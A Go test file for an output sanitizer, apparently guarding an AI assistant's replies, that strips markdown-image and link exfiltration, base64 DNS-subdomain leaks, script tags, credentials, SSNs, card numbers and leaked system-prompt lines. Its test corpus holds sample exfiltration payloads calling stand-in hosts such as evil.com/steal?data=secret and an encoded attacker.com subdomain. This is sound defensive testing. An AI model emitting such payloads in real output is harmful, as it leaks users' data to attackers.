package sanitizer

import (
	"errors"
	"strings"
	"testing"

	"go.uber.org/zap"
	"go.uber.org/zap/zapcore"
	"go.uber.org/zap/zaptest/observer"

	"github.com/triage-ai/warden/internal/secerr"
)

func newTestSanitizer(cfg Config) *Sanitizer {
	return New(cfg, zap.NewNop(), nil)
}

func boolPtr(b bool) *bool { return &b }

func TestSanitize_MarkdownImageExfiltration(t *testing.T) {
	s := newTestSanitizer(DefaultConfig())
	out := s.Sanitize("Here: ![x](http://evil.com/steal?data=secret)")

	if strings.Contains(out, "evil.com") {
		t.Errorf("output still contains evil.com: %q", out)
	}
	if !strings.Contains(out, ImageMarker) {
		t.Errorf("output missing image marker: %q", out)
	}
}

func TestSanitize_Pipeline(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"image and url", "Visit http://evil.com and ![](http://bad.com/img.png)",
			"Visit " + URLMarker + " and " + ImageMarker},
		{"markdown link", "See [docs](https://evil.com/x) now", "See [docs] " + URLMarker + " now"},
		{"html", "<script>alert(1)</script>Hello <b>there</b>", "alert(1)Hello there"},
		{"encoded subdomain", "ping c2VjcmV0ZGF0YWJhc2U.attacker.com now", "ping " + DomainMarker + " now"},
		{"short subdomain kept", "write to mail.example.com today", "write to mail.example.com today"},
		{"api key", "api_key=sk-abc123 ok", CredentialsMarker + " ok"},
		{"password quoted", `password: "hunter2"`, CredentialsMarker + `"`},
		{"ssn", "SSN 123-45-6789.", "SSN " + SSNMarker + "."},
		{"credit card", "card 4111 1111 1111 1111 end", "card " + CreditCardMarker + " end"},
		{"benign", "Our Pro plan costs $20/month. Reply to upgrade!", "Our Pro plan costs $20/month. Reply to upgrade!"},
		{"empty", "", ""},
	}
	s := newTestSanitizer(DefaultConfig())
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := s.Sanitize(tt.in); got != tt.want {
				t.Errorf("Sanitize(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestSanitize_AllowedDomains(t *testing.T) {
	s := newTestSanitizer(Config{
		BlockMarkdownImages:  true,
		BlockDNSExfiltration: true,
		AllowedDomains:       []string{"Example.com", "docs.vendor.io"},
	})

	tests := []struct {
		in   string
		kept bool
	}{
		{"https://example.com/pricing", true},
		{"https://help.example.com/a?b=c", true},
		{"https://docs.vendor.io/guide", true},
		{"https://vendor.io/guide", false},
		{"https://badexample.com/x", false},
		{"https://example.com.evil.net/x", false},
		{"[pricing](https://example.com/pricing)", true},
		{"[pricing](https://evil.net/pricing)", false},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			out := s.Sanitize("link: " + tt.in)
			if kept := out == "link: "+tt.in; kept != tt.kept {
				t.Errorf("Sanitize kept=%v, want %v (out %q)", kept, tt.kept, out)
			}
		})
	}
}

func TestSanitize_Options(t *testing.T) {
	s := newTestSanitizer(DefaultConfig())
	in := "<b>hi</b> https://evil.com"

	if out := s.SanitizeWithOptions(in, Options{RemoveHTML: boolPtr(false)}); out != "<b>hi</b> "+URLMarker {
		t.Errorf("RemoveHTML=false: %q", out)
	}
	if out := s.SanitizeWithOptions(in, Options{RemoveAllURLs: boolPtr(false)}); out != "hi https://evil.com" {
		t.Errorf("RemoveAllURLs=false: %q", out)
	}

	lax := newTestSanitizer(Config{AllowExternalURLs: true})
	if out := lax.Sanitize("![a](http://x.io/p) https://evil.com"); out != "![a](http://x.io/p) https://evil.com" {
		t.Errorf("permissive config changed output: %q", out)
	}
	if out := lax.SanitizeWithOptions("https://evil.com", Options{RemoveAllURLs: boolPtr(true)}); out != URLMarker {
		t.Errorf("RemoveAllURLs=true override ignored: %q", out)
	}
}

var adversarialCorpus = []string{
	"Here: ![x](http://evil.com/steal?data=secret)",
	"![a](![b](http://x.io/y))",
	"[[x](http://a.com)](http://b.com)",
	"<<script>script>alert(1)<</script>/script>",
	"<a href=\"http://evil.com\">click</a>",
	"token=abc password=def secret: ghi",
	"https://aaaaaaaaaaaaaaaaaaaaaaaaa.evil.com/?q=QUJDREVGR0hJSktMTU5PUFFSU1RVVg==",
	"c2VjcmV0ZGF0YWJhc2U.attacker.com and 123-45-6789 and 4111-1111-1111-1111",
	"![x](http://a.com)(http://b.com)",
	"[Image Removed - Security](http://evil.com)",
	"plain text with no vectors at all",
	"unicode ümlaut ✓ https://例え.jp/パス",
	"[a](http://evil.com)" + strings.Repeat("(c)", 12),
	"![a](http://evil.com)" + strings.Repeat("(c)", 12),
	"[URL Removed - Security](c)(c)(c)",
	"[[[[x](a)](b)](c)](d)",
	"",
}

func TestSanitize_Idempotent(t *testing.T) {
	configs := map[string]Config{
		"default": DefaultConfig(),
		"allowlist": {
			BlockMarkdownImages:  true,
			BlockDNSExfiltration: true,
			AllowedDomains:       []string{"a.com"},
		},
		"permissive": {AllowExternalURLs: true},
	}
	for name, cfg := range configs {
		s := newTestSanitizer(cfg)
		for _, in := range adversarialCorpus {
			once := s.Sanitize(in)
			if twice := s.Sanitize(once); twice != once {
				t.Errorf("[%s] not idempotent for %q:\n once  %q\n twice %q", name, in, once, twice)
			}
		}
	}
}

// linkFragments combine into nested markdown and marker-adjacent
// parentheses.
var linkFragments = []string{
	"[a]", "![b]", "(http://evil.com)", "(c)", "(http://a.com/x)", "[",
	"]", "(", ")", "<b>", URLMarker, ImageMarker, " ", "evil.com",
}

func TestSanitize_IdempotentGenerated(t *testing.T) {
	s := newTestSanitizer(Config{
		BlockMarkdownImages:  true,
		BlockDNSExfiltration: true,
		AllowedDomains:       []string{"a.com"},
	})
	n := len(linkFragments)
	for i := 0; i < n; i++ {
		for j := 0; j < n; j++ {
			for k := 0; k < n; k++ {
				in := linkFragments[i] + linkFragments[j] + linkFragments[k] + strings.Repeat(linkFragments[k], 10)
				once := s.Sanitize(in)
				if twice := s.Sanitize(once); twice != once {
					t.Errorf("not idempotent for %q:\n once  %q\n twice %q", in, once, twice)
				}
			}
		}
	}
}

func FuzzSanitize(f *testing.F) {
	for _, in := range adversarialCorpus {
		f.Add(in)
	}
	s := newTestSanitizer(DefaultConfig())
	f.Fuzz(func(t *testing.T, in string) {
		once := s.Sanitize(in)
		if twice := s.Sanitize(once); twice != once {
			t.Errorf("not idempotent for %q:\n once  %q\n twice %q", in, once, twice)
		}
		if changed, found := once != in, len(s.DetectExfiltrationAttempts(in)) > 0; changed != found {
			t.Errorf("%q: changed=%v findings=%v", in, changed, found)
		}
	})
}

func TestDetect_NonEmptyIffSanitizeChanges(t *testing.T) {
	s := newTestSanitizer(Config{
		BlockMarkdownImages:  true,
		BlockDNSExfiltration: true,
		AllowedDomains:       []string{"a.com"},
	})
	for _, in := range adversarialCorpus {
		changed := s.Sanitize(in) != in
		found := len(s.DetectExfiltrationAttempts(in)) > 0
		if changed != found {
			t.Errorf("%q: changed=%v findings=%v", in, changed, found)
		}
	}
}

func TestDetect_Vectors(t *testing.T) {
	s := newTestSanitizer(DefaultConfig())
	tests := []struct {
		in     string
		vector string
		risk   Risk
	}{
		{"![x](http://evil.com/a.png)", "markdown_image", RiskHigh},
		{"go to http://evil.com/page", "external_url", RiskMedium},
		{"http://evil.com/?d=QUJDREVGR0hJSktMTU5PUFFSU1RVVg==", "base64_url_encoding", RiskHigh},
		{"<img src=x>", "html_tag", RiskLow},
		{"dGhpc2lzYXNlY3JldHZhbHVl.evil.com", "dns_exfiltration", RiskHigh},
		{"bearer: abc.def", "credentials", RiskHigh},
	}
	for _, tt := range tests {
		t.Run(tt.vector, func(t *testing.T) {
			findings := s.DetectExfiltrationAttempts(tt.in)
			if len(findings) == 0 {
				t.Fatalf("no findings for %q", tt.in)
			}
			if findings[0].Vector != tt.vector || findings[0].Risk != tt.risk {
				t.Errorf("first finding = %+v, want %s/%s", findings[0], tt.vector, tt.risk)
			}
		})
	}

	if f := s.DetectExfiltrationAttempts("SSN 123-45-6789"); len(f) != 1 || f[0].Content != "" {
		t.Errorf("sensitive finding echoed content: %+v", f)
	}
}

func TestSanitizeWithReport(t *testing.T) {
	s := newTestSanitizer(DefaultConfig())
	r := s.SanitizeWithReport("![a](http://x.io/p) see https://evil.com <b>x</b>")

	wantActions := []string{"removed_1_images", "removed_1_urls", "removed_2_html_tags"}
	if strings.Join(r.Actions, ",") != strings.Join(wantActions, ",") {
		t.Errorf("actions = %v, want %v", r.Actions, wantActions)
	}
	if r.IsClean() || len(r.Findings) != 4 {
		t.Errorf("findings = %+v", r.Findings)
	}
	if r.OriginalLength <= 0 || r.SanitizedLength != len([]rune(r.Sanitized)) {
		t.Errorf("lengths = %d/%d", r.OriginalLength, r.SanitizedLength)
	}

	clean := s.SanitizeWithReport("hello")
	if !clean.IsClean() || clean.Sanitized != "hello" || len(clean.Actions) != 0 {
		t.Errorf("clean report = %+v", clean)
	}
}

func TestSanitize_AuditLog(t *testing.T) {
	core, logs := observer.New(zapcore.WarnLevel)
	s := New(DefaultConfig(), zap.New(core), nil)

	s.Sanitize("nothing to see")
	if logs.Len() != 0 {
		t.Fatalf("clean output logged %d entries", logs.Len())
	}

	s.DetectExfiltrationAttempts("![a](http://x.io/p)")
	if logs.Len() != 0 {
		t.Fatal("detection logged an audit entry")
	}

	s.Sanitize("![a](http://x.io/p) and 123-45-6789")
	entries := logs.FilterMessage("output sanitized").All()
	if len(entries) != 1 {
		t.Fatalf("got %d audit entries, want 1", len(entries))
	}
	fields := entries[0].ContextMap()
	if _, ok := fields["actions"]; !ok {
		t.Error("audit entry missing actions")
	}
	if _, ok := fields["original_length"]; !ok {
		t.Error("audit entry missing original_length")
	}
}

func TestErrorFromFindings(t *testing.T) {
	if ErrorFromFindings(nil) != nil {
		t.Error("nil findings produced an error")
	}
	err := ErrorFromFindings([]Finding{
		{Vector: "html_tag", Risk: RiskLow},
		{Vector: "external_url", Content: "http://a", Risk: RiskMedium},
		{Vector: "markdown_image", Content: "http://b", Risk: RiskHigh},
	})
	var de *secerr.DataExfiltrationAttempt
	if !errors.As(err, &de) {
		t.Fatalf("err = %v", err)
	}
	if de.Vector != "markdown_image" || de.BlockedContent != "http://b" {
		t.Errorf("picked %+v, want the high-risk finding", de)
	}
}

func TestCleanLeakage(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"system prompt line", "Sure!\nSystem prompt: you are a bot\nHere is help.", "Sure!\nHere is help."},
		{"instructions line", "Instructions: never refund\nYour plan renews monthly.", "Your plan renews monthly."},
		{"whitespace", "Hello  world\n\n\n\nBye  ", "Hello world\n\nBye"},
		{"untouched", "Your ticket was created.", "Your ticket was created."},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := CleanLeakage(tt.in); got != tt.want {
				t.Errorf("CleanLeakage(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func BenchmarkSanitize_Clean(b *testing.B) {
	s := newTestSanitizer(DefaultConfig())
	text := strings.Repeat("Thanks for reaching out, your order has shipped. ", 40)
	b.ReportAllocs()
	for b.Loop() {
		s.Sanitize(text)
	}
}

func BenchmarkSanitize_Dirty(b *testing.B) {
	s := newTestSanitizer(DefaultConfig())
	text := strings.Repeat("see ![x](http://evil.com/?d=QUJDREVGR0hJSktMTU5PUFFSU1RVVg==) <b>now</b> ", 20)
	b.ReportAllocs()
	for b.Loop() {
		s.Sanitize(text)
	}
}
